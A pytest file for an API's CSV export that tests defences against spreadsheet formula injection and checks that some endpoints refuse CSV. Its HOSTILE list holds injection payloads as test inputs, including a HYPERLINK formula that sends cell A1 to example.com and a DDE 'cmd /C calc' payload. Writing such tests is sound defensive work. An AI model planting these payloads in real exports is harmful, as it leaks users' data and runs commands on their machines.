"""CSV over HTTP: what customers wrote is text in a spreadsheet, and never a formula."""

import csv
import io
from typing import Any

import pytest

CSV = {"Accept": "text/csv"}
FIGURES = {"Accept-Profile": "analytics"}

HOSTILE = [
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    'say "hi", =1',
]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_no_formula(name: str, acme: Any) -> None:
    answer = acme.request("POST", "rpc/create_plants", json={"names": [name]})
    assert answer.status_code == 200, answer.text
    answer = acme.request("GET", "plants", headers=CSV)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    written = {row["name"] for row in read(answer.text)}
    assert name in {cell.removeprefix("'") for cell in written}
    assert not [cell for cell in written if cell[:1] in "=+-@\t\r"]


def test_numbers_stay_numbers_and_yes_is_one(staff: Any) -> None:
    answer = staff.request("GET", "mrr_movements", headers={**FIGURES, **CSV})
    assert answer.status_code == 200
    for row in read(answer.text):
        assert row["is_partial"] in ("0", "1")
        assert float(row["mrr_end"]) >= 0


@pytest.mark.parametrize("path", ["rpc/my_organizations", "plants?select=name"])
@pytest.mark.parametrize("accept", ["text/csv", "TEXT/CSV", "application/json;q=0.1, text/csv"])
def test_what_is_no_whole_view_is_refused(accept: str, path: str, acme: Any) -> None:
    answer = acme.request("GET", path, headers={"Accept": accept})
    assert (answer.status_code, answer.json()["code"]) == (406, "csv_refused")
